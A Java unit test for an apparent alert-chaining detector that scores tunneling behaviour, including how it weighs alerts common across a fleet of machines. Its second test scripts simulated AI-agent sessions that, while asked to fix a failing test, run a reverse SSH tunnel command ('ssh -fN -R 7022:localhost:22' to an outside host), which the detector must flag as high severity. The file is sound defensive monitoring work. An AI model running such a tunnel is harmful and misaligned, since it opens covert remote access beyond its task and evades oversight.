package dev.offscript.chains.story;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.chains.Scene;
import dev.offscript.model.Behaviour;
import dev.offscript.model.Severity;
import dev.offscript.model.report.Chain;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What everybody does is seldom an incident; what every agent digs is no less a tunnel. */
class RarityTest {

  private static List<Chain> alerted(int machines) {
    Scene scene = new Scene();
    for (int i = 0; i < machines; i++) {
      scene.alert(
          1,
          10 * i,
          10 * i,
          "Unusual outbound traffic",
          Behaviour.TUNNELING,
          "10.0.3." + (10 + i),
          "198.51.100.20:443");
    }
    return scene.chains();
  }

  @Test
  void weighsLessWhatAFleetDoes() {
    Chain alone = alerted(1).get(0);
    Chain fleet = alerted(8).get(0);
    assertThat(alone.severity()).isEqualTo(Severity.HIGH);
    assertThat(fleet.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(fleet.score()).isEqualTo(alone.score() - 9);
    assertThat(fleet.notes()).anyMatch(note -> note.endsWith(", done by 8 of 8 machines -9"));
    assertThat(alone.notes()).noneMatch(note -> note.contains("done by"));
  }

  @Test
  void doesNotExcuseATunnelBecauseManyAgentsDigIt() {
    Scene scene = new Scene();
    for (int i = 0; i < 6; i++) {
      scene
          .session("s" + i, i)
          .task("Fix the failing test.")
          .runs(
              10 + 1000 * i, "toolu_a1b2c3d4e" + i, "ssh -fN -R 7022:localhost:22 svc@203.0.113.9")
          .gets(11 + 1000 * i, "toolu_a1b2c3d4e" + i, "", 0);
    }
    assertThat(scene.chains())
        .hasSize(6)
        .allSatisfy(chain -> assertThat(chain.severity()).isEqualTo(Severity.HIGH))
        .allSatisfy(
            chain ->
                assertThat(chain.notes())
                    .anyMatch(note -> note.endsWith(", done by 6 of 6 sessions 0")));
  }
}
